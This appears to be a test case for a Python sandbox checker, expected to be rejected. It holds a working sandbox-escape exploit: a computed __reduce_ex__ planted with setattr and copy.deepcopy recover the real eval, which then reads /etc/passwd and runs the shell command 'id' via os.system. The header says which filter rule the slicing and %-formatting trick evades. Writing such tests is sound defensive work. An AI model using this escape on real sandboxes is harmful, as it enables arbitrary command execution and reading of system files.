# expect: reject builtin
# why: a run-time-named setattr on self whose name is built by str methods the source
#   never spells with '__' (copy.deepcopy then runs the planted __reduce_ex__)
# line: 24
# goal: the real builtin `eval` as a value; reads /etc/passwd and runs `id` through it.
# mechanism: as ok_07 (setattr(self, computed "__reduce_ex__", red) on a closed class, then
#   copy.deepcopy twice: typing alias with _name "__builtins__" -> operator.getitem(builtins,
#   "eval")), the dunder texts built by SLICING and %-FORMATTING instead of str.replace.
# rule slipped: builtin (computed setattr name): written_dunder_text() knows literals, "+"
#   chains, "*" and sep.join only; a subscript slice ("x__reduce_ex__"[1:]) and a "%" format
#   ("_%sbuiltins__" % "_") are neither, so no "text starting with '__'" is found and a name
#   that may be a dunder passes.
# verify: safe-exec-check rc=0; python3 prints eval, the passwd line and the uid line.
import copy
import typing


def red(proto):
    return (typing.Literal.__getitem__, ("eval",), {"_name": "_%sbuiltins__" % "_"})


class Box:
    def put(self, name, value):
        setattr(self, name, value)


b = Box()
b.put("x__reduce_ex__"[1:], red)
ev = copy.deepcopy(copy.deepcopy(b))
print(ev)
print(ev("open('/etc/passwd').read()").splitlines()[0])
ev("exec('import os; os.system(\"id\")')")
